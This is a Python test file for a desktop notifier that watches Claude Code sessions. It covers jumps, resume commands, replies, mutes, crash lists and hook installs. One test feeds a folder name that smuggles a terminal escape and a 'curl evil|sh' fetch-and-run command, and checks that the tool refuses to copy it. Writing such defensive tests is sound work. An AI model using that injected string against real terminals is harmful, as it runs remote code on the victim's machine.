"""Test each click and its result."""

import asyncio
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from deskbell.board import board
from deskbell.desktop.jump.arrival import Arrival
from deskbell.errors import Problem
from deskbell.face.actions import (
    Action,
    Answer,
    Answers,
    Attach,
    CopyResume,
    Details,
    Dismiss,
    Hooks,
    HooksWish,
    Jump,
    Later,
    Mute,
    Open,
    Quit,
    Reply,
    Resume,
    Seen,
    Snooze,
    StartAtLogin,
    Worded,
)
from deskbell.home import Home, home
from deskbell.notices.notice import Button
from deskbell.notices.quiet import QuietFile
from deskbell.program.clicks import RealHands, could_not
from deskbell.program.resuming import resume_in_terminal
from deskbell.session import STATUSES, Key, Place, Session
from deskbell.sessions.crashes import SEEN_FOR, CrashFile
from deskbell.settings.settings_file import Change
from deskbell_hooks.schema import Status
from deskbell_icons import Sign
from tests.tray.making import NOON, session

KEY = ("a1", 100)
THERE = Arrival("pane", complete=True, sentence="In front: the window.")
UNSEEN = Arrival("window", complete=None, sentence="Asked for the window, but nothing here tells.")
DETACHED = Arrival(
    None, complete=False, sentence="It is in a tmux to which nobody is attached.", offer=("tmux", "attach")
)
NOWHERE = Arrival(None, complete=False, sentence="It is not known which window shows it.")


@dataclass
class Desk:
    """Records what was shown, copied and changed; can be a desk that has nothing."""

    bare: bool = False
    unsure: str = ""
    copied: list[str] = field(default_factory=list)
    shown: list[Path] = field(default_factory=list)
    wishes: list[HooksWish | bool] = field(default_factory=list)
    jumps: list[tuple[Key, str | None]] = field(default_factory=list)
    boards: list[Key | None] = field(default_factory=list)
    """The sessions at which a terminal with the board was opened."""
    has_terminal: bool = False
    attached: list[tuple[str, ...]] = field(default_factory=list)
    examined: int = 0
    offered: int = 0

    def copy(self, text: str) -> str:
        if self.bare:
            raise Problem("no clipboard")
        self.copied.append(text)
        return self.unsure

    def show(self, path: Path) -> None:
        if self.bare:
            raise Problem("nothing shows files here")
        self.shown.append(path)

    def board(self, session: Session | None, _: Home) -> None:
        if not self.has_terminal:
            raise Problem("No terminal was found.")
        self.boards.append(session.key if session else None)

    def change(self, wish: HooksWish) -> str:
        self.wishes.append(wish)
        if self.bare:
            raise PermissionError(13, "Permission denied", "settings.json")
        return "Installed: settings.json"

    def answer(self, on: bool) -> str:
        return self.change("install") if on else "Nothing had to be changed."

    def examine(self) -> None:
        self.examined += 1

    def planned(self) -> list[Change]:
        return [Change(Path("settings.json"), b"{}", b'{"hooks": {}}')]

    def offer(self) -> None:
        self.offered += 1

    def set(self, on: bool) -> None:
        self.wishes.append(on)


@dataclass
class Outcome:
    desk: Desk
    said: list[tuple[str, str]]
    signs: list[Sign]
    slots: list[str]
    buttons: list[Button]
    quiet_file: QuietFile
    kept: list[float]
    """Seconds for which each crash stays that was noted."""


PAST = session(session_id="c3", pid=300, cwd="/srv/web", status="crashed")


def after(
    action: Action,
    desk: Desk | None = None,
    resume: Callable[[Session, Home], None] = resume_in_terminal,
    came: Arrival = THERE,
    **about: Any,
) -> Outcome:
    """Do ACTION with one session on the board. CAME: how far jumps come. ABOUT says what is particular about it."""
    ordinary = {"cwd": "/srv/api", "status": "permission", "detail": "Bash: ls"}
    desk = desk or Desk()
    said: list[tuple[str, str]] = []
    signs: list[Sign] = []
    slots: list[str] = []
    buttons: list[Button] = []

    def say(slot: str, title: str, text: str, *offered: Button, sign: Sign = "plain") -> None:
        said.append((title, text))
        signs.append(sign)
        slots.append(slot)
        buttons.extend(offered)

    quiet_file = QuietFile(home().state, lambda: NOON)
    crashes = CrashFile(home().state)
    parts = (desk, desk, list, quiet_file, say, desk.offer, lambda: NOON, lambda key: [PAST], crashes)

    def go_to(one: Session, token: str | None, _: Home) -> Arrival:
        desk.jumps.append((one.key, token))
        return came

    def attach(arrived: Arrival, one: Session, _: Home) -> None:
        desk.attached.append(arrived.offer)

    hands = RealHands(home(), *parts, desk.copy, desk.show, resume, desk.board, go_to, attach)
    asyncio.run(hands.do(action, board([session(**(ordinary | about))], NOON)))
    kept = [crash.until - NOON for crash in crashes.known().values()]
    return Outcome(desk, said, signs, slots, buttons, quiet_file, kept)


RUNNING = [status for status in STATUSES if status not in ("ended", "crashed")]
IN_TMUX = Place("/dev/pts/3", (("TMUX", "/tmp/tmux-1000/default,7,0"), ("TMUX_PANE", "%5")))


@pytest.mark.parametrize("status", RUNNING)
@pytest.mark.parametrize("came", [THERE, UNSEEN])
def test_a_jump_goes_to_a_running_session_with_the_token_of_the_click_and_says_nothing(
    status: Status, came: Arrival
) -> None:
    outcome = after(Jump(KEY, "token"), came=came, status=status)
    assert outcome.desk.jumps == [(KEY, "token")]
    assert (outcome.said, outcome.desk.copied) == ([], [])


@pytest.mark.parametrize(("came", "offered"), [(NOWHERE, []), (DETACHED, [Attach(KEY)])])
def test_a_jump_that_did_not_arrive_says_how_far_it_came_and_offers_the_next_best(
    came: Arrival, offered: list[Action]
) -> None:
    outcome = after(Jump(KEY), came=came)
    assert outcome.said == [("api: Ship it", f"{came.sentence}\nFolder: /srv/api")]
    assert outcome.signs == ["permission"]
    assert [button.action for button in outcome.buttons] == offered


@pytest.mark.parametrize(
    ("came", "attached", "said"),
    [
        (DETACHED, [("tmux", "attach")], []),
        (THERE, [], []),
        (NOWHERE, [], [("Could not open the session in a terminal", NOWHERE.sentence)]),
    ],
)
def test_a_terminal_is_opened_for_a_session_that_nothing_shows(
    came: Arrival, attached: list[tuple[str, ...]], said: list[tuple[str, str]]
) -> None:
    outcome = after(Attach(KEY), came=came)
    assert (outcome.desk.attached, outcome.said) == (attached, said)


@pytest.mark.parametrize("status", RUNNING)
def test_the_resume_command_of_a_running_session_is_refused(status: Status) -> None:
    """It would start a second client on the same id."""
    outcome = after(CopyResume(KEY), status=status, place=IN_TMUX)
    assert outcome.desk.copied == []
    assert outcome.said == [
        (
            "Could not copy the resume command",
            "api is still running in /dev/pts/3, tmux pane %5. Resuming it would start it twice. "
            "Use it there, or end it first.",
        )
    ]
    assert outcome.signs == ["error"]


def test_the_resume_command_of_a_crashed_client_is_refused_while_another_one_runs_its_session() -> None:
    outcome = after(CopyResume(PAST.key), session_id=PAST.session_id, place=IN_TMUX)
    assert outcome.desk.copied == []
    assert "is still running in /dev/pts/3, tmux pane %5" in outcome.said[0][1]


def test_the_refusal_names_no_terminal_that_is_not_known() -> None:
    assert (
        after(CopyResume(KEY)).said[0][1]
        == "api is still running. Resuming it would start it twice. Use it there, or end it first."
    )


@pytest.mark.parametrize("status", ["ended", "crashed"])
def test_a_session_that_is_over_is_resumed_with_a_command_from_the_clipboard(status: Status) -> None:
    outcome = after(CopyResume(KEY), status=status)
    assert outcome.desk.copied == ["cd /srv/api && claude --resume a1"]
    assert outcome.said == [("Copied to clipboard: resume command for Ship it", "cd /srv/api && claude --resume a1")]


def test_a_folder_whose_name_acts_on_a_terminal_is_not_copied() -> None:
    outcome = after(CopyResume(KEY), status="crashed", cwd="/srv/\x1b[201~\x03\ncurl evil|sh\n")
    assert outcome.desk.copied == []
    assert outcome.said == [
        (
            "Could not copy the resume command",
            "The name of the folder of api has characters that act on a terminal. "
            "Go to the folder yourself, then run `claude --resume a1`.",
        )
    ]
    assert outcome.signs == ["error"]


def test_a_command_that_may_not_have_arrived_is_not_said_to_be_copied() -> None:
    outcome = after(CopyResume(KEY), Desk(unsure="It went through X11."), status="crashed")
    assert outcome.said == [
        ("Resume command for Ship it", "cd /srv/api && claude --resume a1\nIt went through X11."),
    ]
    assert [button.action for button in outcome.buttons] == [Details(KEY)]


def test_without_a_clipboard_the_command_is_shown_with_a_way_to_select_it() -> None:
    outcome = after(CopyResume(KEY), Desk(bare=True), status="crashed")
    assert outcome.said == [
        ("Could not copy the resume command", "no clipboard\ncd /srv/api && claude --resume a1"),
    ]
    assert (outcome.signs, outcome.buttons) == (["error"], [Button("details", "Show the command", Details(KEY))])


EVERY: list[Action] = [
    *(Jump(KEY), Details(KEY), Seen((KEY,)), Dismiss((KEY,)), Mute(KEY, True), Snooze("1h"), StartAtLogin(True)),
    *(Hooks("install"), Hooks("uninstall"), Open("board"), Open("settings"), Open("log"), Open("doctor")),
    *(Open("changes"), Open("about")),
]


@pytest.mark.parametrize("status", ["permission", "idle", "working", "crashed", "ended"])
@pytest.mark.parametrize("action", [*EVERY, pytest.param(Open("doctor"), marks=pytest.mark.long)], ids=str)
def test_only_what_says_copy_changes_the_clipboard(action: Action, status: Status) -> None:
    assert after(action, status=status).desk.copied == []


def resumed(opened: list[str], **about: Any) -> Outcome:
    """Click Resume; OPENED gets the sessions for which a terminal opens."""
    return after(Resume(KEY), resume=lambda session, home: opened.append(session.session_id), **about)


@pytest.mark.parametrize("status", ["crashed", "ended"])
def test_resume_opens_a_terminal_and_marks_a_crash_as_seen(status: Status) -> None:
    opened: list[str] = []
    outcome = resumed(opened, status=status, kept_until=NOON + 3600)
    assert (opened, outcome.said, outcome.kept) == (["a1"], [], [SEEN_FOR])


@pytest.mark.parametrize("status", RUNNING)
def test_resume_opens_no_terminal_for_a_running_session(status: Status) -> None:
    opened: list[str] = []
    outcome = resumed(opened, status=status, place=IN_TMUX)
    assert (opened, outcome.said) == (
        [],
        [
            (
                "Could not resume the session in a terminal",
                "api is still running in /dev/pts/3, tmux pane %5. Resuming it would start it twice. "
                "Use it there, or end it first.",
            )
        ],
    )


def test_a_session_without_a_folder_is_told_and_its_crash_stays() -> None:
    outcome = after(Resume(KEY), status="crashed", cwd="/srv/gone", kept_until=NOON + 9000)
    assert outcome.said == [
        (
            "Could not resume the session in a terminal",
            "Cannot resume a1. Neither its transcript nor its folder was found. Run `deskbell resume` to choose from those that can be resumed.",
        )
    ]
    assert outcome.kept == []


GONE: list[tuple[Action, str]] = [
    (Resume(("gone", 1)), "Could not resume the session in a terminal"),
    (Jump(("gone", 1)), "Could not jump to the session"),
    (Attach(("gone", 1)), "Could not open the session in a terminal"),
    (CopyResume(("gone", 1)), "Could not copy the resume command"),
    (Details(("gone", 1)), "Could not show the details"),
    (Reply(("gone", 1), "go on"), "Could not reply to the session"),
    (Answer(("gone", 1), "c0de", "say", "go on"), "Could not answer"),
]


@pytest.mark.parametrize(("action", "title"), GONE)
def test_a_session_that_is_gone_is_named_as_gone(action: Action, title: str) -> None:
    outcome = after(action)
    kept = "\nYou typed: go on" if isinstance(action, Worded) else ""
    assert (outcome.said, outcome.signs) == (
        [(title, f"This session no longer exists. Run `deskbell list --all` to see those that do.{kept}")],
        ["error"],
    )


NAMES: list[tuple[Action, str]] = [
    (Hooks("install"), "Could not install the hooks"),
    (Hooks("uninstall"), "Could not uninstall the hooks"),
    (Hooks("repair"), "Could not repair the hooks"),
    (Answers(True), "Could not switch answers on"),
    (Answers(False), "Could not switch answers off"),
    (StartAtLogin(True), "Could not switch the start at login on"),
    (StartAtLogin(False), "Could not switch the start at login off"),
    (Open("settings"), "Could not open the settings"),
    (Open("board"), "Could not open the board"),
    (Open("about"), "Could not open the page about Deskbell"),
    (Open("changes"), "Could not open what an install changes"),
    (Open("doctor"), "Could not open the doctor's report"),
    (Mute(KEY, True), "Could not mute the session"),
    (Mute(KEY, False), "Could not unmute the session"),
    (Later(KEY, True), "Could not be quiet about the session"),
    (Later(KEY, False), "Could not stop being quiet about the session"),
    (Seen((KEY,)), "Could not take a crash off the list"),
    (Dismiss((KEY,)), "Could not take a crash off the list"),
    (Snooze("30m"), "Could not snooze"),
    (Snooze(None), "Could not end the snooze"),
    (Quit(), "Could not quit"),
]


@pytest.mark.parametrize(("action", "title"), NAMES)
def test_what_failed_is_named(action: Action, title: str) -> None:
    assert could_not(action) == title


def test_a_reply_is_refused_unless_the_person_has_switched_them_on() -> None:
    outcome = after(Reply(KEY, "go on"), status="idle")
    assert outcome.said == [
        (
            "Could not reply to the session",
            "Replies are switched off. Switch them on: `deskbell answers on reply`.\nYou typed: go on",
        )
    ]


def test_a_reply_that_does_not_arrive_is_on_the_clipboard() -> None:
    home().config.mkdir(parents=True)
    (home().config / "config.toml").write_text("[answers]\nreply = true\n")
    outcome = after(Reply(KEY, "go on"), status="working")
    ((title, text),) = outcome.said
    assert title == "api: Ship it"
    assert text.startswith("Not delivered: the session is at work")
    assert outcome.desk.copied == ["go on"]
    assert [button.action for button in outcome.buttons] == [Jump(KEY)]


def test_a_reply_to_a_turn_that_another_one_followed_is_not_typed() -> None:
    home().config.mkdir(parents=True)
    (home().config / "config.toml").write_text("[answers]\nreply = true\n")
    outcome = after(Reply(KEY, "go on", 1.0), status="idle", turn_started=2.0)
    ((_, text),) = outcome.said
    assert text.startswith("Not delivered: the session has had another turn since.")
    assert outcome.desk.copied == ["go on"]


def test_a_session_that_crashed_is_resumed_though_the_board_has_dropped_it() -> None:
    assert after(CopyResume(PAST.key)).desk.copied == ["cd /srv/web && claude --resume c3"]


@pytest.mark.parametrize("action", [Details(PAST.key), Jump(PAST.key)])
def test_a_session_that_is_over_shows_its_details_with_the_command(action: Action) -> None:
    (page,) = after(action).desk.shown
    assert "claude --resume c3" in page.read_text()


IN_TERMINAL: list[tuple[Action, list[Key | None]]] = [
    (Open("board"), [None]),
    (Details(KEY), [KEY]),
    (Details(PAST.key), []),
    (Jump(PAST.key), []),
]


@pytest.mark.parametrize(("action", "boards"), IN_TERMINAL)
def test_the_terminal_shows_what_the_board_knows_and_a_page_what_has_left_it(
    action: Action, boards: list[Key | None]
) -> None:
    desk = after(action, Desk(has_terminal=True)).desk
    assert desk.boards == boards
    assert bool(desk.shown) is not bool(boards)


CRASHED = {"status": "crashed", "kept_until": NOON + 3600}


@pytest.mark.parametrize("action", [Seen((KEY,)), Jump(KEY), CopyResume(KEY), Open("board")])
def test_a_crash_that_was_seen_or_resumed_leaves_in_a_while(action: Action) -> None:
    assert after(action, **CRASHED).kept == [SEEN_FOR]


def test_a_crash_that_is_dismissed_leaves_at_once() -> None:
    assert after(Dismiss((KEY,)), **CRASHED).kept == [0]


@pytest.mark.parametrize("action", [Details(KEY), Mute(KEY, True), Dismiss((("gone", 1),)), Seen(())])
def test_a_click_that_is_about_something_else_takes_no_crash_off_the_board(action: Action) -> None:
    assert after(action, **CRASHED).kept == []


def test_what_cannot_be_noted_of_a_crash_is_said() -> None:
    home().state.parent.mkdir(parents=True, exist_ok=True)
    home().state.write_text("a file where the folder belongs")
    assert after(Dismiss((KEY,)), **CRASHED).said[0][0] == "Could not take a crash off the list"


@pytest.mark.parametrize("action", [Details(KEY), Jump(KEY), CopyResume(KEY), Open("board")])
def test_a_message_shows_no_secret_and_no_control_character(action: Action) -> None:
    said = "password=hunter2-Zq9 \x1b]0;x\x07done"
    status = "crashed" if isinstance(action, CopyResume) else "permission"
    desk = Desk(bare=not isinstance(action, CopyResume))
    outcome = after(action, desk, came=NOWHERE, status=status, title=said, detail=said, last_line=said)
    assert outcome.said
    for shown in outcome.said:
        assert "hunter2" not in "".join(shown)
        assert "\x1b" not in "".join(shown)
        assert "[redacted]" in "".join(shown)


def test_a_mute_and_a_snooze_hold() -> None:
    assert after(Mute(KEY, True)).quiet_file.muted() == {"a1"}
    assert after(Mute(KEY, False)).quiet_file.muted() == frozenset()
    assert after(Later(KEY, True)).quiet_file.laters() == {"a1": NOON + 600}
    assert after(Snooze("1h")).quiet_file.quiet().snooze(NOON) == NOON + 3600


def test_the_result_of_an_install_is_shown() -> None:
    outcome = after(Hooks("install"))
    assert (outcome.desk.wishes, outcome.said) == (["install"], [("Hooks of Claude Code", "Installed: settings.json")])
    assert outcome.signs == ["plain"]
    assert after(Hooks("uninstall")).signs == ["install"]


MESSAGES: list[tuple[Action, str, Sign]] = [
    (Jump(KEY), "permission", "permission"),
    (Details(KEY), "question", "question"),
    (CopyResume(KEY), "crashed", "error"),
    (Open("board"), "idle", "idle"),
    (Open("about"), "idle", "plain"),
    (Open("changes"), "idle", "install"),
    (Open("doctor"), "idle", "plain"),
    (CopyResume(("gone", 1)), "idle", "error"),
]


def test_every_message_has_a_place_of_its_own_and_the_sign_of_what_it_says() -> None:
    outcomes = [after(action, Desk(bare=True), came=NOWHERE, status=status) for action, status, _ in MESSAGES]
    assert [outcome.signs for outcome in outcomes] == [[sign] for *_, sign in MESSAGES]
    assert len({slot for outcome in outcomes for slot in outcome.slots}) == len(MESSAGES)


def test_a_refusal_of_the_system_is_shown() -> None:
    outcome = after(Hooks("install"), Desk(bare=True))
    assert "Permission denied" in outcome.said[0][1]
    assert outcome.signs == ["error"]


def test_the_start_at_login_is_switched() -> None:
    assert after(StartAtLogin(True)).desk.wishes == [True]


def test_switching_answers_says_what_happened_in_the_place_of_the_hooks() -> None:
    outcome = after(Answers(True))
    assert outcome.said == [("Answers from notifications", "Installed: settings.json")]
    assert outcome.slots == after(Hooks("install")).slots
    assert after(Answers(False)).said == [("Answers from notifications", "Nothing had to be changed.")]


def test_answers_that_cannot_be_switched_on_are_said_not_to_be() -> None:
    outcome = after(Answers(True), Desk(bare=True))
    assert [title for title, _ in outcome.said] == ["Could not switch answers on"]
    assert outcome.signs == ["error"]
